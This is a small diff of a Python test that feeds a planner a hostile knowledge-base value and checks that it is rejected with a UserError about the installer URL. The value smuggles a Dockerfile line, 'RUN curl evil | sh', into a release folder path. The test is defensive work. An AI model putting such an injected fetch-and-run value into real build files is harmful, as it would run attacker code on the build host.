@@ -353,8 +353,9 @@ def test_knowledge_base_values_are_checked_again(demo, kb):
         def __getattr__(self, name):
             return getattr(kb, name)
 
-        def cann_release_folder(self, cann):  # where the installers' URLs start
-            return kb.cann_release_folder(cann) + "'\nRUN curl evil | sh/"
+        def cann_release(self, cann):  # where the installers' URLs start
+            release = kb.cann_release(cann)
+            return dataclasses.replace(release, folder=release.folder + "'\nRUN curl evil | sh/")
 
     with pytest.raises(UserError, match="installer URL"):
         plan.plan(demo, Hostile(), "npu", DIGEST)
